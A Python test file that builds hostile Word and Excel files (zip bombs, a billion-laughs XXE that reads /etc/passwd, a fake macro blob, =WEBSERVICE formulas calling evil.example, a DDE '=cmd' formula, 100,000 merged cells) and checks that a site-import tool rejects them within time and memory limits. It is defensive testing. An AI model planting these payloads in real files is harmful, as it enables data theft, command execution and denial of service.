"""`govsite import` of files made to do harm, as a process of its own: how long it takes and how much memory it ever holds."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import NamedTuple

import openpyxl
import pytest
from word_files import national_workbook, saved

from running import write_site

if sys.platform == "win32":
    pytest.skip("what a process used is told by wait4", allow_module_level=True)

SECONDS = 15.0
"""Processor time of the whole command, start included; 2.5 s were seen."""
MEGABYTES = 128
"""The most that the command or one of its helpers holds at a time; 64 MB were seen."""


class Used(NamedTuple):
    """exit_code; seconds of processor time; peak: megabytes; output."""

    exit_code: int
    seconds: float
    peak: float
    output: str


# Asked from a small process: Linux counts what a process held before it became another program.
_METER = """
import json, os, subprocess, sys
with open("output.txt", "wb") as output:
    process = subprocess.Popen(sys.argv[1:], stdout=output, stderr=subprocess.STDOUT)
    _, status, usage = os.wait4(process.pid, 0)
unit = 1 if sys.platform == "darwin" else 1024
print(json.dumps([os.waitstatus_to_exitcode(status), usage.ru_utime + usage.ru_stime, usage.ru_maxrss * unit / 1e6]))
"""


def used_by(words: list[str], folder: Path) -> Used:
    """What a command used, the processes that it began and waited for included."""
    meter = [sys.executable, "-S", "-E", "-c", _METER, *words]
    done = subprocess.run(meter, cwd=folder, capture_output=True, check=True, encoding="utf-8")
    return Used(*json.loads(done.stdout), (folder / "output.txt").read_text(encoding="utf-8"))


def _packed(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    buffer = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info.filename, source.read(info))
        for name, content in changes.items():
            if content is not None:
                target.writestr(name, content)
    return buffer.getvalue()


def _word() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("关于值班的通知")
    return saved(document)


_BODY = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'


def _bomb(filling: bytes) -> bytes:
    """A document that unpacks to 300 MB: blanks, or one paragraph that never ends."""
    buffer = BytesIO(_packed(_word(), {"word/document.xml": None}))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as target,
        target.open("word/document.xml", "w") as part,
    ):
        part.write(_BODY)
        for _ in range(300):
            part.write(filling * 1_000_000)
    return buffer.getvalue()


def _entities() -> bytes:
    layers = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    evil = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e0 "lol"><!ENTITY x SYSTEM "file:///etc/passwd">{layers}]><a>&e9;&x;</a>'
    return _packed(_word(), {"word/document.xml": evil.encode()})


def _macros() -> bytes:
    return _packed(_word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(range(256)) * 800})


def _formulas() -> bytes:
    book = openpyxl.load_workbook(BytesIO(national_workbook()))
    for row in range(4, 3000):
        book.active[f"H{row}"] = '=WEBSERVICE("http://evil.example/"&A1)'
        book.active[f"G{row}"] = "=cmd|'/c calc'!A0"
    return saved(book)


def _merged() -> bytes:
    data = national_workbook()
    with zipfile.ZipFile(BytesIO(data)) as file:
        sheet = file.read("xl/worksheets/sheet1.xml")
    merges = b"".join(b'<mergeCell ref="A%d:XFD%d"/>' % (row, row) for row in range(10, 100_010))
    return _packed(
        data, {"xl/worksheets/sheet1.xml": sheet.replace(b"</mergeCells>", merges + b"</mergeCells>")}
    )


def _ole() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(1, 256)) * 8_000


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "zip bomb": ("炸弹.docx", lambda: _bomb(b" "), "文件损坏"),
    "endless paragraph": ("长文.docx", lambda: _bomb(b"a"), "文件损坏"),
    "external entities": ("实体.docx", _entities, "文件损坏"),
    "macros": ("宏.docx", _macros, "宏没有运行"),
    "formulas that call out": ("公式.xlsx", _formulas, "连到外部"),
    "100,000 merged cells": ("合并.xlsx", _merged, "太大"),
    "broken OLE": ("坏.xls", _ole, "文件损坏"),
}


def _import(files: list[str], folder: Path) -> Used:
    return used_by([sys.executable, "-m", "govsite", "import", *files, "--site", str(folder)], folder)


def test_importing_hostile_files_stays_within_time_and_memory(tmp_path: Path) -> None:
    """All in one command: the peak is that of the worst. IMPORT_EACH=1 measures one by one: run with `-rP`."""
    write_site(tmp_path, {})
    for file, make, _ in HOSTILE.values():
        (tmp_path / file).write_bytes(make())
    if os.environ.get("IMPORT_EACH"):
        for name, (file, _, _) in HOSTILE.items():
            used = _import([file], tmp_path)
            sys.stdout.write(f"{name}: {used.seconds:.2f} s CPU, {used.peak:.0f} MB\n")
    used = _import([file for file, _, _ in HOSTILE.values()], tmp_path)
    assert used.exit_code in {0, 1}, used.output
    for file, _, said in HOSTILE.values():
        assert any(said in line for line in used.output.splitlines() if file in line), (file, used.output)
    assert "root:" not in used.output
    assert used.seconds < SECONDS
    assert used.peak < MEGABYTES


def test_the_meter_sees_what_is_held_too_long(tmp_path: Path) -> None:
    used = used_by([sys.executable, "-c", f"bytearray(b'x') * {MEGABYTES * 1_000_000}"], tmp_path)
    assert used.exit_code == 0
    assert used.peak > MEGABYTES
